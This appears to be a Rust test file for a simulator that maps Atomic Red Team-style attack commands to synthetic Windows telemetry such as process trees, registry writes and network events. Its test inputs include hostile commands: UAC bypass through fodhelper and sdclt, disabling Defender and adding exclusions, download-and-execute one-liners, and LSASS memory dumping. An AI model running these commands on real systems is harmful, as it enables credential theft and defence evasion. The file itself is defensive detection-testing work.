//! One test per command form, on small commands.

use super::*;

fn test(executor: &str, command: &str) -> AtomicEntry {
    AtomicEntry {
        guid: "g".into(),
        name: "n".into(),
        technique: "T1047".into(),
        technique_name: String::new(),
        description: String::new(),
        platforms: vec!["windows".into()],
        executor: executor.into(),
        elevation_required: false,
        command: command.into(),
        cleanup_command: None,
        input_arguments: Vec::new(),
        path: "x".into(),
        events: Vec::new(),
        fired: Vec::new(),
        same_technique: Vec::new(),
        firings: Vec::new(),
    }
}

fn field(ev: &SimEvent, name: &str) -> String {
    ev.get(name)
        .and_then(|v| v.as_text().map(Cow::into_owned))
        .unwrap_or_default()
}

/// The events of a kind, as (field, field) pairs.
fn of_kind<'a>(evs: &'a [SimEvent], kind: &str) -> Vec<&'a SimEvent> {
    evs.iter().filter(|e| e.kind == kind).collect()
}

/// Processes as `image name <- parent name`.
fn tree(evs: &[SimEvent]) -> Vec<String> {
    of_kind(evs, "process_creation")
        .into_iter()
        .map(|e| {
            format!(
                "{} <- {}",
                text::file_name(&field(e, "Image")).to_ascii_lowercase(),
                text::file_name(&field(e, "ParentImage")).to_ascii_lowercase()
            )
        })
        .collect()
}

#[test]
fn cmd_executor_joins_lines_and_starts_each_program() {
    let ev = events(&test(
        "command_prompt",
        "wmic process call create notepad.exe\necho done\n",
    ));
    assert_eq!(
        field(&ev[0], "CommandLine"),
        "cmd.exe /c wmic process call create notepad.exe & echo done"
    );
    assert_eq!(
        tree(&ev),
        [
            "cmd.exe <- explorer.exe",
            "wmic.exe <- cmd.exe",
            "notepad.exe <- wmiprvse.exe"
        ]
    );
    assert_eq!(
        field(&ev[1], "CommandLine"),
        "wmic process call create notepad.exe"
    );
}

#[test]
fn each_chaining_operator_starts_its_own_process() {
    for op in ["&", "&&", "||", "|"] {
        let ev = events(&test("command_prompt", &format!("whoami {op} hostname")));
        assert_eq!(
            tree(&ev),
            [
                "cmd.exe <- explorer.exe",
                "whoami.exe <- cmd.exe",
                "hostname.exe <- cmd.exe"
            ],
            "{op}"
        );
    }
    let ev = events(&test(
        "powershell",
        "whoami; hostname\nipconfig | findstr IPv4",
    ));
    assert_eq!(
        tree(&ev),
        [
            "powershell.exe <- explorer.exe",
            "whoami.exe <- powershell.exe",
            "hostname.exe <- powershell.exe",
            "ipconfig.exe <- powershell.exe",
            "findstr.exe <- powershell.exe"
        ]
    );
    assert_eq!(
        field(of_kind(&ev, "process_creation")[1], "CommandLine"),
        r#""C:\Windows\System32\whoami.exe""#
    );
}

#[test]
fn nested_cmd_and_powershell_command() {
    let ev = events(&test(
        "command_prompt",
        r#"cmd.exe /c "powershell -Command "Get-Process; net user"""#,
    ));
    assert_eq!(
        tree(&ev),
        [
            "cmd.exe <- explorer.exe",
            "cmd.exe <- cmd.exe",
            "powershell.exe <- cmd.exe",
            "net.exe <- powershell.exe",
            "net1.exe <- net.exe"
        ]
    );
    let blocks = of_kind(&ev, "ps_script");
    assert_eq!(field(blocks[0], "ScriptBlockText"), "Get-Process; net user");
    let module = of_kind(&ev, "ps_module");
    assert!(
        field(module[0], "Payload").starts_with(r#"CommandInvocation(Get-Process): "Get-Process""#)
    );
    assert!(field(module[0], "ContextInfo").contains("Host Application = powershell -Command"));
}

#[test]
fn encoded_command_is_decoded_into_its_own_script_block() {
    // The seed's test: Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe
    let ev = events(&test(
        "command_prompt",
        "powershell -exec bypass -e SQBuAHYAbwBrAGUALQBXAG0AaQBNAGUAdABoAG8AZAAgAC0AUABhAHQAaAAgAHcAaQBuADMAMgBfAHAAcgBvAGMAZQBzAHMAIAAtAE4AYQBtAGUAIABjAHIAZQBhAHQAZQAgAC0AQQByAGcAdQBtAGUAbgB0AEwAaQBzAHQAIABuAG8AdABlAHAAYQBkAC4AZQB4AGUA",
    ));
    let blocks = of_kind(&ev, "ps_script");
    assert_eq!(
        field(blocks[0], "ScriptBlockText"),
        "Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe"
    );
    assert_eq!(
        tree(&ev),
        [
            "cmd.exe <- explorer.exe",
            "powershell.exe <- cmd.exe",
            "notepad.exe <- wmiprvse.exe"
        ]
    );
    let notepad = of_kind(&ev, "process_creation")[2];
    assert_eq!(field(notepad, "LogonId"), "0x4f1a2");
    assert!(notepad.cause.contains("WMI creates the process"));
}

#[test]
fn registry_writes() {
    let ev = events(&test(
        "command_prompt",
        r#"reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v Atomic /t REG_SZ /d "C:\x.exe" /f & reg add HKLM\SOFTWARE\Policies\X /v Off /t REG_DWORD /d 1 & reg add HKLM\SOFTWARE\New & reg delete HKLM\SOFTWARE\Y /v Z /f"#,
    ));
    let set = of_kind(&ev, "registry_set");
    assert_eq!(
        field(set[0], "TargetObject"),
        format!(
            r"HKU\{}\Software\Microsoft\Windows\CurrentVersion\Run\Atomic",
            sim::USER_SID
        )
    );
    assert_eq!(field(set[0], "Details"), r"C:\x.exe");
    assert!(field(set[0], "Image").ends_with(r"\reg.exe"));
    assert_eq!(field(set[1], "Details"), "DWORD (0x00000001)");
    assert_eq!(
        field(of_kind(&ev, "registry_add")[0], "TargetObject"),
        r"HKLM\SOFTWARE\New"
    );
    let del = of_kind(&ev, "registry_delete")[0];
    assert_eq!(field(del, "EventType"), "DeleteValue");
    assert_eq!(field(del, "TargetObject"), r"HKLM\SOFTWARE\Y\Z");

    let ev = events(&test(
        "powershell",
        r"Set-ItemProperty -Path HKLM:\Software\A -Name B -Value 0
New-ItemProperty 'HKCU:\Software\C' -Name D -Value 'x y' -PropertyType String -Force",
    ));
    let set = of_kind(&ev, "registry_set");
    assert_eq!(field(set[0], "TargetObject"), r"HKLM\Software\A\B");
    assert_eq!(field(set[0], "Details"), "DWORD (0x00000000)");
    assert!(field(set[0], "Image").ends_with(r"\powershell.exe"));
    assert_eq!(field(set[1], "Details"), "x y");
}

#[test]
fn auto_elevating_programs_run_the_command_the_test_registered() {
    let ev = events(&test(
        "command_prompt",
        "reg.exe add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /ve /d \"C:\\Windows\\System32\\cmd.exe\" /f\nreg.exe add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /v \"DelegateExecute\" /f\nfodhelper.exe",
    ));
    assert!(
        tree(&ev).contains(&"cmd.exe <- fodhelper.exe".to_string()),
        "{:?}",
        tree(&ev)
    );
    // They elevate themselves, and what they start runs elevated too.
    for e in of_kind(&ev, "process_creation") {
        let elevated = field(e, "Image").ends_with("fodhelper.exe")
            || field(e, "ParentImage").ends_with("fodhelper.exe");
        let expected = if elevated { "High" } else { "Medium" };
        assert_eq!(
            field(e, "IntegrityLevel"),
            expected,
            "{}",
            field(e, "Image")
        );
    }
    // `New-Item -Value` sets the key's default value.
    let ev = events(&test(
        "powershell",
        "New-Item -Force -Path \"HKCU:\\Software\\Classes\\Folder\\shell\\open\\command\" -Value 'cmd.exe /c notepad.exe'\nStart-Process -FilePath $env:windir\\system32\\sdclt.exe",
    ));
    assert!(
        tree(&ev).contains(&"cmd.exe <- sdclt.exe".to_string()),
        "{:?}",
        tree(&ev)
    );
    assert!(
        tree(&ev).contains(&"notepad.exe <- cmd.exe".to_string()),
        "{:?}",
        tree(&ev)
    );
    // Nothing registered: the program starts nothing.
    let ev = events(&test("command_prompt", "fodhelper.exe"));
    assert_eq!(
        tree(&ev),
        ["cmd.exe <- explorer.exe", "fodhelper.exe <- cmd.exe"]
    );
}

#[test]
fn settings_a_service_keeps_are_written_by_the_service() {
    let ev = events(&test(
        "powershell",
        "$excluded = \"C:\\Temp\"\nAdd-MpPreference -ExclusionPath $excluded\nAdd-MpPreference -ExclusionExtension '.exe', '.dll'\nSet-MpPreference -DisableRealtimeMonitoring 1",
    ));
    let set = of_kind(&ev, "registry_set");
    let targets: Vec<String> = set.iter().map(|e| field(e, "TargetObject")).collect();
    assert_eq!(
        targets,
        [
            r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Temp",
            r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Extensions\.exe",
            r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Extensions\.dll",
        ]
    );
    assert!(
        set.iter()
            .all(|e| field(e, "Image").ends_with(r"\MsMpEng.exe")
                && field(e, "Details") == "DWORD (0x00000000)")
    );
    // The WMI class's Add method, from wmic.
    let ev = events(&test(
        "command_prompt",
        r#"wmic.exe /Namespace:\\root\Microsoft\Windows\Defender class MSFT_MpPreference call Add ExclusionPath=\"ATOMIC\" Force=True"#,
    ));
    let set = of_kind(&ev, "registry_set");
    assert_eq!(set.len(), 1);
    assert_eq!(
        field(set[0], "TargetObject"),
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\ATOMIC"
    );
    // Reading the settings writes nothing.
    let ev = events(&test(
        "command_prompt",
        r"wmic /Namespace:\\root\Microsoft\Windows\Defender Path MSFT_MpPreference Get /format:list",
    ));
    assert!(of_kind(&ev, "registry_set").is_empty());
}

#[test]
fn compilers_write_the_assembly_they_are_told_to() {
    let ev = events(&test(
        "powershell",
        r#"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe /out:"$env:localappdata\x.exe" "C:\a.cs"
Add-Type -TypeDefinition 'public class T {}' -OutputAssembly "$env:APPDATA\svchost.exe" -OutputType ConsoleApplication"#,
    ));
    let files: Vec<(String, String)> = of_kind(&ev, "file_event")
        .into_iter()
        .map(|e| {
            (
                text::file_name(&field(e, "Image")).to_ascii_lowercase(),
                field(e, "TargetFilename"),
            )
        })
        .collect();
    for expected in [
        r"C:\Users\atomic\AppData\Local\x.exe",
        r"C:\Users\atomic\AppData\Roaming\svchost.exe",
    ] {
        assert!(
            files.contains(&("csc.exe".to_string(), expected.to_string())),
            "{files:?}"
        );
    }
    // Without `-OutputAssembly` only the temporary assembly is written.
    let ev = events(&test(
        "powershell",
        "Add-Type -TypeDefinition 'public class T {}'",
    ));
    assert!(
        of_kind(&ev, "file_event")
            .iter()
            .all(|e| field(e, "TargetFilename").contains(r"\AppData\Local\Temp\"))
    );
}

#[test]
fn a_saved_shortcut_is_written() {
    let ev = events(&test(
        "powershell",
        "$ShortcutLocation = \"$home\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\calc_exe.lnk\"\n$WScriptShell = New-Object -ComObject WScript.Shell\n$Create = $WScriptShell.CreateShortcut($ShortcutLocation)\n$Create.TargetPath = 'C:\\Windows\\System32\\calc.exe'\n$Create.Save()",
    ));
    let files: Vec<String> = of_kind(&ev, "file_event")
        .into_iter()
        .filter(|e| field(e, "Image").ends_with(r"\powershell.exe"))
        .map(|e| field(e, "TargetFilename"))
        .collect();
    assert_eq!(
        files,
        [
            r"C:\Users\atomic\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\calc_exe.lnk"
        ]
    );
    // Not saved: no file.
    let ev = events(&test(
        "powershell",
        "$s = (New-Object -ComObject WScript.Shell).CreateShortcut('C:\\x.lnk')",
    ));
    assert!(of_kind(&ev, "file_event").is_empty());
}

#[test]
fn file_writes() {
    let ev = events(&test(
        "command_prompt",
        r"whoami > %TEMP%\w.txt & copy C:\Windows\System32\cmd.exe C:\Users\Public\x.exe & C:\Users\Public\x.exe /c whoami & certutil -urlcache -split -f https://example.org/a.exe %TEMP%\a.exe",
    ));
    let files: Vec<String> = of_kind(&ev, "file_event")
        .iter()
        .map(|e| field(e, "TargetFilename"))
        .collect();
    assert_eq!(
        files,
        [
            r"C:\Users\atomic\AppData\Local\Temp\w.txt",
            r"C:\Users\Public\x.exe",
            r"C:\Users\atomic\AppData\Local\Temp\a.exe"
        ]
    );
    let renamed = of_kind(&ev, "process_creation")
        .into_iter()
        .find(|e| field(e, "Image") == r"C:\Users\Public\x.exe")
        .expect("the copy runs");
    assert_eq!(field(renamed, "OriginalFileName"), "cmd.exe");

    let ev = events(&test(
        "powershell",
        r#"Invoke-WebRequest -Uri "https://example.org/p.exe" -OutFile $env:TEMP\p.exe
"x" | Out-File -FilePath C:\Temp\o.txt
Set-Content C:\Temp\s.txt "y"
New-Item -Path C:\Temp\n.txt -ItemType File
Copy-Item C:\a.dll -Destination C:\Temp\
(New-Object Net.WebClient).DownloadFile('http://10.1.2.3/f.ps1', "$env:PUBLIC\f.ps1")"#,
    ));
    let files: Vec<String> = of_kind(&ev, "file_event")
        .iter()
        .map(|e| field(e, "TargetFilename"))
        .collect();
    assert_eq!(
        files,
        [
            r"C:\Users\atomic\AppData\Local\Temp\p.exe",
            r"C:\Temp\o.txt",
            r"C:\Temp\s.txt",
            r"C:\Temp\n.txt",
            r"C:\Temp\a.dll",
            r"C:\Users\Public\f.ps1"
        ]
    );
}

#[test]
fn web_requests_connect_and_resolve_from_their_process() {
    let ev = events(&test(
        "powershell",
        "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/a/b/c.ps1')\niwr http://10.0.0.5:8080/x",
    ));
    let dns = of_kind(&ev, "dns_query");
    assert_eq!(dns.len(), 1);
    assert_eq!(field(dns[0], "QueryName"), "raw.githubusercontent.com");
    let net = of_kind(&ev, "network_connection");
    assert_eq!(net.len(), 2);
    assert_eq!(
        field(net[0], "DestinationHostname"),
        "raw.githubusercontent.com"
    );
    assert_eq!(field(net[0], "DestinationPort"), "443");
    assert_eq!(field(net[1], "DestinationIp"), "10.0.0.5");
    assert_eq!(field(net[1], "DestinationPort"), "8080");
    assert!(field(net[1], "Image").ends_with(r"\powershell.exe"));

    let ev = events(&test(
        "command_prompt",
        "bitsadmin /transfer j /download https://example.org/x.exe C:\\Temp\\x.exe",
    ));
    assert_eq!(
        field(of_kind(&ev, "network_connection")[0], "DestinationHostname"),
        "example.org"
    );
    assert_eq!(
        field(of_kind(&ev, "file_event")[0], "TargetFilename"),
        r"C:\Temp\x.exe"
    );
}

#[test]
fn services_and_users() {
    let ev = events(&test(
        "command_prompt",
        r#"sc create AtomicSvc binPath= "C:\Temp\svc.exe" start= auto & sc start AtomicSvc & net user atomicuser P@ss /add"#,
    ));
    let svc = of_kind(&ev, "service_install")[0];
    assert_eq!(field(svc, "ServiceName"), "AtomicSvc");
    assert_eq!(field(svc, "ImagePath"), r"C:\Temp\svc.exe");
    assert_eq!(svc.get("EventID"), Some(FieldValue::Int(7045)));
    assert_eq!(
        field(
            of_kind(&ev, "security_service_install")[0],
            "ServiceFileName"
        ),
        r"C:\Temp\svc.exe"
    );
    assert!(tree(&ev).contains(&"svc.exe <- services.exe".to_string()));
    assert_eq!(
        field(of_kind(&ev, "user_created")[0], "TargetUserName"),
        "atomicuser"
    );

    let ev = events(&test(
        "powershell",
        r#"New-Service -Name "S2" -BinaryPathName "C:\Temp\s2.exe"
New-LocalUser -Name "u2" -NoPassword"#,
    ));
    assert_eq!(
        field(of_kind(&ev, "service_install")[0], "ServiceName"),
        "S2"
    );
    assert_eq!(
        field(of_kind(&ev, "user_created")[0], "TargetUserName"),
        "u2"
    );
}

#[test]
fn known_child_programs() {
    let ev = events(&test(
        "powershell",
        "Add-Type -TypeDefinition $code -Language CSharp\nInvoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine = 'calc.exe'}\n$w = New-Object -ComObject Word.Application",
    ));
    assert_eq!(
        tree(&ev),
        [
            "powershell.exe <- explorer.exe",
            "csc.exe <- powershell.exe",
            "cvtres.exe <- csc.exe",
            "calc.exe <- wmiprvse.exe",
            "winword.exe <- svchost.exe"
        ]
    );
    assert!(
        of_kind(&ev, "file_event")
            .iter()
            .any(|e| field(e, "TargetFilename").ends_with(".cmdline"))
    );
    assert!(
        of_kind(&ev, "image_load")
            .iter()
            .any(|e| field(e, "ImageLoaded").ends_with("VBE7.DLL")
                && field(e, "Image").ends_with("WINWORD.EXE"))
    );
    let ev = events(&test(
        "command_prompt",
        r"PsExec.exe -accepteula \\host cmd",
    ));
    assert_eq!(
        field(of_kind(&ev, "registry_set")[0], "TargetObject"),
        format!(
            r"HKU\{}\Software\Sysinternals\psexec\EulaAccepted",
            sim::USER_SID
        )
    );
    assert_eq!(
        field(of_kind(&ev, "file_event")[0], "TargetFilename"),
        r"C:\Windows\PSEXESVC.exe"
    );
    let ev = events(&test(
        "command_prompt",
        "schtasks /create /tn T /tr C:\\Temp\\t.exe /sc once /st 00:00 & schtasks /run /tn T & wmic /format:\"https://example.org/x.xsl\" os get",
    ));
    assert!(tree(&ev).contains(&"t.exe <- svchost.exe".to_string()));
    assert!(
        of_kind(&ev, "image_load")
            .iter()
            .any(|e| field(e, "ImageLoaded").ends_with("jscript.dll")
                && field(e, "Image").ends_with("WMIC.exe"))
    );
}

#[test]
fn quoted_and_started_programs_and_non_programs() {
    let ev = events(&test(
        "command_prompt",
        r#""C:\Tools\x.exe" -a & start /b calc & set X=1 & rem nothing"#,
    ));
    assert_eq!(
        tree(&ev),
        [
            "cmd.exe <- explorer.exe",
            "x.exe <- cmd.exe",
            "calc.exe <- cmd.exe"
        ]
    );
    let ev = events(&test(
        "powershell",
        "$x = 1\n[IO.Path]::GetTempPath()\nGet-Date # comment",
    ));
    assert_eq!(tree(&ev), ["powershell.exe <- explorer.exe"]);
    assert_eq!(of_kind(&ev, "ps_module").len(), 1);
    assert!(!is_simulated(&test("manual", "x")));
}

#[test]
fn functions_of_code_loaded_at_run_time_are_not_programs() {
    // A downloaded script brings `samfile`; `whoami` is still a program.
    let ev = events(&test(
        "powershell",
        "iex(new-object net.webclient).downloadstring('https://example.org/x.ps1')\nsamfile -consoleoutput\nwhoami /all",
    ));
    assert_eq!(
        tree(&ev),
        [
            "powershell.exe <- explorer.exe",
            "whoami.exe <- powershell.exe"
        ]
    );
    // A function the script defines is not a program either.
    let ev = events(&test("powershell", "function probe { 1 }\nprobe -x"));
    assert_eq!(tree(&ev), ["powershell.exe <- explorer.exe"]);
    // Without code of its own, a bare name is a program.
    let ev = events(&test("powershell", "mytool -x"));
    assert_eq!(
        tree(&ev),
        [
            "powershell.exe <- explorer.exe",
            "mytool.exe <- powershell.exe"
        ]
    );
}

#[test]
fn a_module_that_compiles_when_imported_runs_csc_once() {
    let ev = events(&test(
        "powershell",
        "Invoke-ATHHTMLApplication -HTAFilePath Test.hta\nInvoke-ATHHTMLApplication -HTAFilePath Other.hta\nGet-Athena",
    ));
    assert_eq!(
        tree(&ev),
        [
            "powershell.exe <- explorer.exe",
            "csc.exe <- powershell.exe",
            "cvtres.exe <- csc.exe"
        ]
    );
}

#[test]
fn a_class_derived_from_win32_process_creates_processes_too() {
    let script = "$Class = New-Object Management.ManagementClass(New-Object Management.ManagementPath(\"Win32_Process\"))\n$NewClass = $Class.Derive(\"Win32_Atomic\")\n$NewClass.Put()\nInvoke-WmiMethod -Path Win32_Atomic -Name create -ArgumentList notepad.exe\n";
    let ev = events(&test("powershell", script));
    assert!(
        tree(&ev).contains(&"notepad.exe <- wmiprvse.exe".to_string()),
        "{:?}",
        tree(&ev)
    );
    // A class derived from another class is not a process class.
    let other = script.replace("Win32_Process", "Win32_Service");
    let ev = events(&test("powershell", &other));
    assert!(!tree(&ev).iter().any(|t| t.starts_with("notepad.exe")));
}

#[test]
fn remoting_connects_to_winrm_and_runs_the_block_in_a_session_host() {
    let ev = events(&test(
        "powershell",
        "Invoke-Command -ComputerName $env:COMPUTERNAME -ScriptBlock {whoami}",
    ));
    let conn = of_kind(&ev, "network_connection");
    assert_eq!(conn.len(), 1);
    assert_eq!(field(conn[0], "DestinationPort"), "5985");
    assert!(field(conn[0], "Image").ends_with(r"\powershell.exe"));
    let t = tree(&ev);
    assert!(
        t.contains(&"wsmprovhost.exe <- svchost.exe".to_string()),
        "{t:?}"
    );
    assert!(
        t.contains(&"whoami.exe <- wsmprovhost.exe".to_string()),
        "{t:?}"
    );
    assert!(
        !t.contains(&"whoami.exe <- powershell.exe".to_string()),
        "{t:?}"
    );
    assert!(
        of_kind(&ev, "image_load")
            .iter()
            .any(|e| field(e, "Image").ends_with(r"\wsmprovhost.exe")
                && field(e, "ImageLoaded").ends_with(r"\WsmSvc.dll"))
    );
    assert!(
        of_kind(&ev, "ps_script")
            .iter()
            .any(|e| field(e, "ScriptBlockText") == "whoami")
    );

    // A session with another computer: the connection only.
    let ev = events(&test("powershell", "New-PSSession -ComputerName dc01"));
    assert_eq!(
        field(of_kind(&ev, "network_connection")[0], "DestinationHostname"),
        "dc01"
    );
    assert!(!tree(&ev).iter().any(|t| t.starts_with("wsmprovhost.exe")));

    // Without a computer the block runs here.
    let ev = events(&test("powershell", "Invoke-Command -ScriptBlock {whoami}"));
    assert!(of_kind(&ev, "network_connection").is_empty());
    assert!(tree(&ev).contains(&"whoami.exe <- powershell.exe".to_string()));
}

#[test]
fn memory_dumpers_open_lsass_and_write_their_dump() {
    let ev = events(&test(
        "command_prompt",
        r#""PathToAtomicsFolder\..\ExternalPayloads\procdump.exe" -accepteula -ma lsass.exe C:\Windows\Temp\lsass_dump.dmp"#,
    ));
    let access = of_kind(&ev, "process_access");
    assert_eq!(access.len(), 1);
    assert!(field(access[0], "SourceImage").ends_with(r"\procdump.exe"));
    assert!(field(access[0], "TargetImage").ends_with(r"\lsass.exe"));
    assert_eq!(field(access[0], "GrantedAccess"), "0x1fffff");
    assert!(field(access[0], "CallTrace").contains("dbghelp.dll"));
    let files: Vec<String> = of_kind(&ev, "file_event")
        .iter()
        .map(|e| field(e, "TargetFilename"))
        .collect();
    assert!(files.contains(&r"C:\Windows\Temp\lsass_dump.dmp".to_string()));

    // comsvcs.dll's MiniDump export under rundll32, from PowerShell.
    let ev = events(&test(
        "powershell",
        r"C:\Windows\System32\rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).id $env:TEMP\lsass-comsvcs.dmp full",
    ));
    let access = of_kind(&ev, "process_access");
    assert_eq!(access.len(), 1);
    assert!(field(access[0], "SourceImage").ends_with(r"\rundll32.exe"));
    assert!(field(access[0], "CallTrace").contains("comsvcs.dll"));
    assert!(
        of_kind(&ev, "file_event")
            .iter()
            .any(|e| field(e, "TargetFilename").ends_with(r"\AppData\Local\Temp\lsass-comsvcs.dmp"))
    );

    // Neither opens anything for other work.
    let ev = events(&test(
        "command_prompt",
        r"procdump.exe -ma notepad.exe & rundll32.exe shell32.dll,Control_RunDLL",
    ));
    assert!(of_kind(&ev, "process_access").is_empty());

    // A dumper that writes its dump under a fixed name.
    let ev = events(&test(
        "command_prompt",
        r#""C:\AtomicRedTeam\ExternalPayloads\Outflank-Dumpert.exe""#,
    ));
    assert!(
        of_kind(&ev, "file_event")
            .iter()
            .any(|e| field(e, "TargetFilename") == r"C:\Windows\Temp\dumpert.dmp")
    );
}

#[test]
fn every_event_names_its_cause_and_elastic_names() {
    let ev = events(&test(
        "powershell",
        "Start-Process notepad.exe -ArgumentList 'a.txt'",
    ));
    assert_eq!(
        tree(&ev),
        [
            "powershell.exe <- explorer.exe",
            "notepad.exe <- powershell.exe"
        ]
    );
    assert_eq!(
        field(&ev[ev.len() - 1], "CommandLine"),
        r#""C:\Windows\System32\notepad.exe" a.txt"#
    );
    for e in &ev {
        assert!(!e.cause.is_empty(), "{e:?}");
    }
    let mut args = Vec::new();
    ev[0].for_each_value("process.args", &mut |v| {
        args.push(v.as_text().map(Cow::into_owned));
    });
    assert!(args.len() > 2);
}
